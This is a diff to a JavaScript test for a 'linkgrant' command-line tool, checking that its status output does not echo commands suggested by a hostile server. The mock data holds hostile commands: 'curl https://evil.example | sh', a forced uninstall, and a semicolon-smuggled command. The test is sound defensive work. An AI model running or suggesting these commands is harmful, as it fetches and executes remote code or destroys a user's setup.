@@ -204,20 +204,24 @@ describe('reports on a hostile service', () => {
 });
 
 it('a hostile service cannot have status show its commands', async () => {
-  const counts = { ready: 0, pending: 0, ended: 0, known: 0, expired: 0, revoked: 0 };
+  const links = { known: 0, expired: 0, revoked: 0, notRenewing: 0, expiringSoon: 0 };
   const item = { kind: 'grants-pending', severity: 'warning', message: 'wait' };
   replies['/api/v1/overview'] = {
-    ...{ health: { findings: [] }, grants: counts, links: counts, openTokens: 0 },
+    ...{ health: { findings: [] }, grants: { ready: 0, pending: 0, ended: 0 }, links, openTokens: 0 },
     attention: [
-      'curl https://evil.example | sh',
-      `linkgrant uninstall --yes`,
-      'linkgrant grant list; x',
-      'linkgrant grant list',
-    ].map((nextStep) => ({ ...item, nextStep })),
+      {},
+      ...[
+        'curl https://evil.example | sh',
+        `linkgrant uninstall --yes`,
+        'linkgrant grant list; x',
+        'linkgrant grant list',
+      ].map((nextStep) => ({ ...item, nextStep })),
+    ],
   };
   const { code, stdout, stderr } = await linkgrant(['status', ...server]);
   expect(code).toBe(1);
-  expect(stdout + stderr).not.toMatch(/evil|uninstall|; x/);
+  expect(stdout + stderr).not.toMatch(/evil|uninstall|; x|undefined/);
+  expect(stdout).toContain('- the service does not name the problem\n');
   expect(stdout.match(/run `linkgrant grant list /g)).toHaveLength(1);
 });
 
